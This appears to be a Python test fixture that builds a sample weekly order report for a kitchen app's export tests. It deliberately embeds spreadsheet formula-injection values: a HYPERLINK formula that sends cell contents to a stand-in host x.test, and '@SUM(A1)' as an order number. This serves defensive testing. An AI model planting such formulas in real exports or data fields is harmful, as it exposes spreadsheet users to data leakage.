"""A report with something of everything, for the tests of its words and files."""

from dataclasses import replace
from datetime import timedelta

from kitchen_app.domain.history import Outcome
from kitchen_app.domain.money import Money
from kitchen_app.domain.order import OrderId, Party, ShopId
from kitchen_app.domain.part_refund import PartRefundReason
from kitchen_app.domain.report import GivenBack, Report, ReportRow, Span, period_of
from kitchen_app.domain.report_count import report_of
from kitchen_app.domain.sold_out import kitchen_day
from tests.fakes import NOON, SHOP

HOSTILE = '=HYPERLINK("http://x.test/?"&A,"open")'
MINUTE = timedelta(minutes=1)
HOUR = timedelta(hours=1)


def sar(minor: int) -> Money:
    return Money(minor=minor, currency="SAR")


def row(number: int, **changes: object) -> ReportRow:
    placed = NOON + (number % 5) * HOUR - (number % 3) * timedelta(days=1)
    finished = ReportRow(
        order_id=OrderId(f"90071992547409{number:02}"),
        shop_id=SHOP,
        number=str(number),
        placed_at=placed,
        outcome=Outcome.FINISHED,
        paid=sar(5000 + number),
        net=sar(4000),
        accepted_at=placed + MINUTE,
        cooked_since=placed + MINUTE,
        ready_at=placed + (number + 5) * MINUTE,
    )
    return replace(finished, **changes)  # type: ignore[arg-type]  # names of the dataclass


TWICE = GivenBack(by=Party.CUSTOMER, words=HOSTILE, amount=sar(700))
ROWS = (
    *(row(number) for number in range(8)),
    row(8, net=None, given_back=(TWICE,)),
    replace(row(9), number="@SUM(A1)", net=sar(-120), given_back=(replace(TWICE, amount=None),)),
    row(10, given_back=(replace(TWICE, by=Party.MERCHANT, chosen=PartRefundReason.SLOW),)),
    row(
        11,
        given_back=(TWICE,),
        outcome=Outcome.MISSED,
        ended_by=Party.SYSTEM,
        accepted_at=None,
        cooked_since=None,
    ),
    row(12, outcome=None, is_timed=False, ready_at=None, shop_id=ShopId("2")),
)


def a_report(span: Span = Span.WEEK) -> Report:
    """Return a report of a week that goes on, with hostile words in it."""
    week = period_of(span, kitchen_day(NOON))
    report = report_of(week, ROWS, ROWS[:4], now=NOON, late_after_min=15)
    return replace(report, damaged=1, left=2)
